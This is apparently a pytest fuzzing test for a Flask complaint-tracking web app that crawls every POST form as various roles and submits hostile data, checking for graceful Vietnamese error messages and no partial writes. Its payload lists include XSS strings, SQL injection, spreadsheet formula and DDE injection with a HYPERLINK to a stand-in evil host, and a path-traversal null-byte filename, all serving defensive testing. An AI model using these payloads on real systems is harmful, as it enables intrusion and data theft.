"""Hostile data in every state-changing HTML form of the application.

The forms are discovered, not listed: a commune is planted with one of everything (tests.web.planting) and a
draft period report, and every page is crawled as its chairperson, receptionist, handler and administrator,
the province's administrator and an anonymous visitor; every ``<form method="post">`` found is parsed with
its fields, buttons and current values. The test fails when a POST route of the web application (the JSON
API has its own fuzzing) is reached by no discovered form, so a new form cannot go untested.

Each form then gets a bounded, seeded series of submissions (``TRACKER_FUZZ_SEED``, ``TRACKER_FUZZ_EXAMPLES``)
built from its own values with one field, or all of them, replaced by hostile data: very long strings, wrong
types in number and date fields, 31/02/2026 and 99/99/9999, integers beyond 64 bits, broken UTF-8 and lone
surrogates, NUL bytes, spreadsheet formulas, markup, values outside a list, and — where a file is asked for —
a file beyond the upload limit, an empty one and garbage with a hostile name.

Each answer must be: no 5xx; either a redirect (accepted) or an HTML page showing a Vietnamese message (a
field error, a flash, or an error page's title); and for a refused submission no table gains or loses rows.
Figures go to test-artifacts/reliability/test_form_fuzz.json.
"""
from __future__ import annotations

import gc
import html
import os
import random
import re
import warnings
from collections import deque
from dataclasses import dataclass
from dataclasses import field
from datetime import timedelta
from html.parser import HTMLParser
from urllib.parse import quote_from_bytes
from urllib.parse import urlsplit

from flask import Flask
from flask import current_app
from flask.testing import FlaskClient
from sqlalchemy import func
from sqlalchemy import select
from werkzeug.exceptions import MethodNotAllowed
from werkzeug.exceptions import NotFound

from tests.conftest import FreshContextClient
from tests.conftest import login
from tests.factories import make_unit
from tests.factories import make_user
from tests.figures import record
from tests.web.planting import global_ids
from tests.web.planting import plant_unit
from tests.web.planting import seed_rules
from tests.web.test_identity_crawl import same_site
from tests.web.test_injection import start_urls
from tracker.extensions import db
from tracker.models import Letter
from tracker.models import Unit
from tracker.services.letters import register as letters
from tracker.services.privacy import identity_grants
from tracker.services.reception import visits as reception
from tracker.services.reception.citizens import CitizenInput
from tracker.services.reports.periodic import build_report
from tracker.web.filters import local_today

SEED = int(os.environ.get("TRACKER_FUZZ_SEED", "2026"))
EXAMPLES = int(os.environ.get("TRACKER_FUZZ_EXAMPLES", "6"))  # per form, besides the file and all-fields cases
PAGES_PER_USER = 120
PER_PATH = 3
VIETNAMESE = re.compile("[àáảãạăắằẳẵặâấầẩẫậđèéẻẽẹêếềểễệìíỉĩịòóỏõọôốồổỗộơớờởỡợùúủũụưứừửữựỳýỷỹỵ]", re.I)
NOT_COUNTED = {"audit_log", "audit_unlocks"}  # reading and refusing may be audited; the rest must not move
LAST = ("auth.logout", "auth.change_password", "reception.delete_visit", "attachments.delete")

LONG = "Nguyễn Thị Ạ " * 20_000  # ~260 000 characters
BIG_INTS = [str(2**64), str(-(2**63) - 1), "9" * 40, "1e309", "-0", "NaN", "0x1F", "١٢٣", "²", "12abc", " 7 ", ""]
BAD_DATES = ["31/02/2026", "99/99/9999", "00/00/0000", "29/02/2025", "2026-02-31", "01/13/2026", "32/01/2026",
             "1/1/10000", "hôm qua", "01/01/0001", "31/12/9999"]
TEXTS = [LONG, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
         "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "Nội\x00dung", "\ud800\udfff\ud83d",
         "\udcff lạc", "‮gnp.exe", "' OR 1=1 --", "\t\r\n  ", "ﷺ" * 5000]
RAW_BYTES = [b"\xff\xfe\xfd", b"\xed\xa0\x80", b"\xc3", b"Nguy\xe1\xbb\x85n\xc0\x80"]  # broken UTF-8, overlong NUL
CHOICES = ["khong_co", "'; DROP TABLE visits; --", "0", "-1", str(2**64), "__proto__"]


@dataclass
class Form:
    page: str
    action: str
    enctype: str
    fields: list[tuple[str, str, str, list[str]]] = field(default_factory=list)  # (name, kind, value, options)
    buttons: list[tuple[str, str]] = field(default_factory=list)

    def names(self) -> tuple[str, ...]:
        return tuple(sorted({name for name, _, _, _ in self.fields}))


class FormParser(HTMLParser):
    """Every ``<form method=post>`` of a page with its fields (input, select, textarea) and named buttons."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.page, self.forms, self.current = page, [], None  # type: ignore[var-annotated]
        self.select: list[object] | None = None
        self.textarea: list[object] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: (v or "") for k, v in attrs}
        if tag == "form":
            if a.get("method", "get").lower() == "post":
                self.current = Form(self.page, a.get("action") or self.page, a.get("enctype", ""))
                self.forms.append(self.current)
            return
        form = self.current
        if form is None:
            return
        name = a.get("name", "")
        if tag == "input" and name:
            kind = a.get("type", "text").lower()
            if kind in ("submit", "image", "button"):
                form.buttons.append((name, a.get("value", "")))
            elif kind in ("checkbox", "radio"):
                form.fields.append((name, kind, a["value"] if "checked" in a else "", [a.get("value", "on")]))
            else:
                classes = a.get("class", "") + " " + a.get("inputmode", "") + " " + a.get("placeholder", "")
                if kind == "text" and ("date" in classes or "dd/mm" in classes or "date" in name):
                    kind = "date"
                form.fields.append((name, kind, a.get("value", ""), []))
        elif tag == "button" and name:
            form.buttons.append((name, a.get("value", "")))
        elif tag == "select" and name:
            self.select = [name, "", []]
        elif tag == "option" and self.select is not None:
            options = self.select[2]
            options.append(a.get("value", ""))  # type: ignore[attr-defined]
            if "selected" in a or not self.select[1]:
                self.select[1] = a.get("value", "")
        elif tag == "textarea" and name:
            self.textarea = [name, ""]

    def handle_data(self, data: str) -> None:
        if self.textarea is not None:
            self.textarea[1] = str(self.textarea[1]) + data

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.current = None
        elif tag == "select" and self.select is not None and self.current is not None:
            name, value, options = self.select
            self.current.fields.append((str(name), "select", str(value), list(options)))  # type: ignore[call-overload]
            self.select = None
        elif tag == "textarea" and self.textarea is not None and self.current is not None:
            self.current.fields.append((str(self.textarea[0]), "textarea", str(self.textarea[1]).lstrip("\n"), []))
            self.textarea = None


def client_for(app: Flask, username: str | None) -> FlaskClient:
    app.test_client_class = FreshContextClient
    client = app.test_client()
    if username:
        assert login(client, username).status_code == 302, username
    return client


def endpoint_of(app: Flask, url: str) -> str | None:
    try:
        endpoint, _ = app.url_map.bind("localhost").match(urlsplit(url).path, method="POST")
    except (NotFound, MethodNotAllowed):
        return None
    return str(endpoint)


def discover(app: Flask, client: FlaskClient, starts: list[str]) -> tuple[int, list[Form]]:
    """Crawl from ``starts``; every POST form found (pages read, forms)."""
    queue, seen, forms = deque(starts), set(), []  # type: ignore[var-annotated]
    per_path: dict[str, int] = {}
    while queue and len(seen) < PAGES_PER_USER:
        url = queue.popleft()
        path = urlsplit(url).path
        if url in seen or path == "/logout" or per_path.get(path, 0) >= PER_PATH:
            continue
        seen.add(url)
        per_path[path] = per_path.get(path, 0) + 1
        response = client.get(url)
        if "html" not in (response.content_type or "") or response.status_code != 200:
            response.close()
            continue
        body = response.get_data(as_text=True)
        parser = FormParser(url)
        parser.feed(body)
        forms += parser.forms
        for href in re.findall(r"""href\s*=\s*["']([^"']+)["']""", body):
            target = same_site(app, href, url)
            if target and target not in seen:
                queue.append(target)
    return len(seen), forms


def row_counts() -> dict[str, int]:
    counts = {t.name: int(db.session.scalar(select(func.count()).select_from(t)) or 0)
              for t in db.metadata.sorted_tables if t.name not in NOT_COUNTED}
    db.session.rollback()
    return counts


def encode(pairs: list[tuple[str, str | bytes]]) -> bytes:
    """application/x-www-form-urlencoded, with lone surrogates and raw bytes sent as they are."""
    def raw(value: str | bytes) -> bytes:
        return value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")

    return "&".join(f"{quote_from_bytes(raw(k))}={quote_from_bytes(raw(v))}" for k, v in pairs).encode()


def hostile(rng: random.Random, kind: str, name: str) -> str | bytes:
    if kind == "date":
        return rng.choice(BAD_DATES + [LONG[:500]])
    if kind == "number" or any(word in name for word in ("year", "count", "_no", "version", "_id", "days", "page")):
        return rng.choice(BIG_INTS + BAD_DATES[:2] + ["<b>1</b>"])
    if kind in ("select", "radio", "checkbox", "hidden"):
        return rng.choice(CHOICES + BIG_INTS[:3])
    if rng.random() < 0.15:
        return rng.choice(RAW_BYTES)
    return rng.choice(TEXTS + BAD_DATES[:1] + BIG_INTS[:1])


def submissions(rng: random.Random, form: Form) -> list[tuple[str, list[tuple[str, str | bytes]], dict | None]]:
    """(what, urlencoded pairs, files for multipart) to try on this form."""
    base = [(n, v) for n, k, v, _ in form.fields if k != "file" and (k not in ("checkbox", "radio") or v)]
    files = [n for n, k, _, _ in form.fields if k == "file"]
    fuzzable = [(n, k) for n, k, _, _ in form.fields if n != "csrf_token" and k != "file"]
    button = [form.buttons[0]] if form.buttons else []
    tries: list[tuple[str, list[tuple[str, str | bytes]], dict | None]] = []
    for _ in range(EXAMPLES if fuzzable else 1):
        if not fuzzable:
            tries.append(("as shown", base + button, None))
            continue
        name, kind = rng.choice(fuzzable)
        value = hostile(rng, kind, name)
        tries.append((f"{name}={value[:40]!r}", [(n, value if n == name else v) for n, v in base]
                      + ([] if any(n == name for n, _ in base) else [(name, value)]) + button, None))
    if len(fuzzable) > 1:
        everything = {n: hostile(rng, k, n) for n, k in fuzzable}
        tries.append(("every field hostile", [(n, everything.get(n, v)) for n, v in base]
                      + [(n, v) for n, v in everything.items() if not any(n == b for b, _ in base)] + button, None))
    for name in files:
        limit = int(max(current_app.config["MAX_CONTENT_LENGTH"], current_app.config["ATTACHMENTS_MAX_BYTES"]))
        for what, content, filename in (
                ("a file beyond the upload limit", b"\0" * (limit + 1024), "lon.xlsx"),
                ("an empty file", b"", "rong.xlsx"),
                ("garbage with a hostile name", os.urandom(4096), "../../etc/passwd\x00.xlsx"),
                ("a formula as a name", b"=1+1", "=HYPERLINK(\"x\").pdf")):
            tries.append((what, base + button, {name: (content, filename)}))
    return tries


def shown_messages(body: str) -> list[str]:
    page = html.unescape(body)
    texts = re.findall(r'<p class="error"[^>]*>(.*?)</p>', page, re.S)
    texts += re.findall(r'<div class="flash flash-(?:error|warning)"[^>]*>(.*?)</div>', page, re.S)
    texts += re.findall(r'<div class="flash flash-error" role="alert"><ul>(.*?)</ul>', page, re.S)
    if not texts:  # a request refused as a whole: the error page's title
        texts = re.findall(r"<h1[^>]*>(.*?)</h1>", page, re.S)
    return [re.sub(r"<[^>]+>", "", t).strip() for t in texts if t.strip()]


def post(client: FlaskClient, form: Form, pairs: list[tuple[str, str | bytes]], files: dict | None):  # type: ignore[no-untyped-def]
    if files is None:
        return client.post(form.action, data=encode(pairs), content_type="application/x-www-form-urlencoded")
    import io

    data: dict[str, object] = {}
    for n, v in pairs:
        data.setdefault(n, []).append(v.decode("utf-8", "replace") if isinstance(v, bytes) else v)  # type: ignore[union-attr]
    for n, (content, filename) in files.items():
        data[n] = (io.BytesIO(content), filename)
    with warnings.catch_warnings():
        # An upload refused while it is read (413) leaves werkzeug's spooled temporary file to the garbage
        # collector: collected here, so its ResourceWarning is not charged to a later test.
        warnings.simplefilter("ignore", ResourceWarning)
        response = client.post(form.action, data=data, content_type="multipart/form-data")
        response.get_data()
        gc.collect()
    return response


TOKENS: dict[int, str] = {}


def fresh_csrf(client: FlaskClient, form: Form, pairs: list[tuple[str, str | bytes]]) -> list[tuple[str, str | bytes]]:
    """The CSRF token of the client's session (a re-login changes it; any page's token is the session's)."""
    if not any(n == "csrf_token" for n, _ in pairs):
        return pairs
    if id(client) not in TOKENS:
        for url in (form.page, "/account/password", "/login"):
            match = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', client.get(url).get_data(as_text=True))
            if match:
                TOKENS[id(client)] = match.group(1)
                break
    return [(n, TOKENS.get(id(client), "") if n == "csrf_token" else v) for n, v in pairs]


def plant() -> dict[str, object]:
    seed_rules()
    province = make_unit("TINH-F", "UBND tỉnh Thử Nghiệm", level="province")
    data = plant_unit("XA-F", "UBND xã Phòng Thủ", parent=province, text="Nội dung thường", prefix="f")
    make_user("p_admin", "admin", province, full_name="Quản trị tỉnh")
    db.session.commit()
    unit = db.session.scalar(select(Unit).where(Unit.code == "XA-F"))
    build_report(unit, str(local_today().year - 1), today=local_today())  # type: ignore[arg-type]
    # A case accepted months ago (overdue clocks: the delay form) and a letter not yet handled that repeats
    # the planted one (the handling form and the duplicate link).
    desk, chair = data.users["receptionist"], data.users["chair"]
    first = db.session.get(Letter, data.ids["letter_id"])
    assert first is not None
    old_day = local_today() - timedelta(days=150)
    old = letters.register_letter(desk, data.unit, letters.LetterInput(
        received_on=old_day, channel="post", kind="complaint", summary="Khiếu nại việc thu hồi đất năm trước",
        senders=[reception.VisitorInput(citizen_id=data.ids["citizen_id"])]), old_day)
    old_case = letters.decide_handling(chair, old, letters.HandlingInput(
        decision="accept", on=old_day, version=old.version, eligible=True, within_competence=True,
        document_no="7/TB-UBND", handler_id=data.users["handler"].id), old_day)
    again = letters.register_letter(desk, data.unit, letters.LetterInput(
        received_on=local_today(), channel="post", kind="complaint", summary=first.summary,
        senders=[reception.VisitorInput(citizen_id=data.ids["citizen_id"])]), local_today())
    # A denunciation with a live grant (the chairperson's grant and withdraw forms), and the installation
    # administrator (the forms of installation-wide legal data).
    secret = letters.register_letter(desk, data.unit, letters.LetterInput(
        received_on=local_today(), channel="post", kind="denunciation", summary="Tố cáo cán bộ thu tiền",
        senders=[reception.VisitorInput(citizen=CitizenInput(full_name="Người Tố Cáo Phòng Thủ"))]), local_today())
    identity_grants.grant(chair, secret, data.users["handler"].id, "Xác minh nội dung tố cáo")
    make_user("f_sys", "sysadmin", province, full_name="Quản trị hệ thống")
    db.session.commit()
    ids = {**data.ids, **global_ids(), "period": str(local_today().year - 1)}
    return {"ids": ids, "notes": data.notes,
            "extra": [f"/cases/{old_case.id}", f"/letters/{again.id}", f"/letters/{secret.id}"]}


def test_every_post_form_refuses_hostile_data_in_vietnamese_without_a_5xx_or_a_partial_write(app: Flask) -> None:
    planted = plant()
    ids, notes = planted["ids"], planted["notes"]
    users = [("f_chair", "chair"), ("f_receptionist", "receptionist"), ("f_handler", "handler"),
             ("f_admin", "admin"), ("p_admin", "admin"), ("f_sys", "sysadmin"), (None, "anonymous")]
    found: dict[tuple[str, tuple[str, ...], str], tuple[str | None, Form]] = {}
    pages = 0
    for username, role in users:
        client = client_for(app, username)
        starts = (start_urls(app, ids, notes, role) + planted["extra"]  # type: ignore[arg-type,operator]
                  if username else ["/login", "/status/", "/"])
        read, forms = discover(app, client, starts)
        pages += read
        for form in forms:
            endpoint = endpoint_of(app, form.action)
            assert endpoint, f"a form posts to no route: {form.action} on {form.page}"
            key = (endpoint, form.names(), ",".join(v for _, v in form.buttons))
            found.setdefault(key, (username, form))
    post_routes = {rule.endpoint for rule in app.url_map.iter_rules()
                   if "POST" in (rule.methods or ()) and not rule.rule.startswith(("/api/", "/static"))}
    covered = {endpoint for endpoint, _, _ in found}
    missing = sorted(post_routes - covered)
    assert not missing, f"POST routes that no crawled form reaches (plant what shows their form): {missing}"

    rng = random.Random(SEED)
    TOKENS.clear()  # ids of the previous run's clients may be reused
    problems: list[str] = []
    tried = refused = accepted = 0
    clients: dict[str | None, FlaskClient] = {}
    order = sorted(found.items(), key=lambda item: (item[0][0] in LAST, LAST.index(item[0][0])
                                                     if item[0][0] in LAST else 0, item[0]))
    for (endpoint, _, _), (username, form) in order:
        for what, pairs, files in submissions(rng, form):
            client = clients.get(username) or clients.setdefault(username, client_for(app, username))
            pairs = fresh_csrf(client, form, pairs)
            before = row_counts()
            tried += 1
            where = f"{endpoint} ({username}) {what}"
            try:
                response = post(client, form, pairs, files)
            except Exception as exc:  # noqa: BLE001 - TESTING propagates what production answers with a 500
                problems.append(f"{where}: 500 {type(exc).__name__}: {str(exc)[:200]}")
                db.session.rollback()
                clients.pop(username, None)
                continue
            body = response.get_data(as_text=True)
            if response.status_code >= 500:
                problems.append(f"{where}: {response.status_code}")
            elif 300 <= response.status_code < 400:
                accepted += 1
                if urlsplit(response.headers.get("Location", "")).path == "/login" and endpoint != "auth.logout":
                    problems.append(f"{where}: sent to the login page")
            else:
                refused += 1
                shown = shown_messages(body)
                if not shown or not all(VIETNAMESE.search(text) for text in shown):
                    problems.append(f"{where}: {response.status_code} without a Vietnamese message: {shown[:3]}")
                after = row_counts()
                if after != before:
                    moved = {t: (before[t], after[t]) for t in after if after[t] != before[t]}
                    problems.append(f"{where}: refused ({response.status_code}) but rows changed: {moved}")
            if endpoint in ("auth.logout", "auth.change_password") or (
                    response.status_code == 302 and response.headers.get("Location", "").endswith("/login")):
                TOKENS.pop(id(clients.pop(username, None)), None)  # logged out: log in again for the next one
    figures = {"database": db.engine.dialect.name, "seed": SEED, "pages_crawled": pages,
               "post_routes": len(post_routes), "forms_covered": len(found), "routes_covered": len(covered),
               "inputs_tried": tried, "accepted": accepted, "refused": refused,
               "5xx_found": sum(": 5" in p for p in problems), "problems": len(problems)}
    record("test_form_fuzz", figures, db.engine.dialect.name)
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems[:60])
    assert tried > len(found) * 2 and refused > 0 and accepted > 0, figures
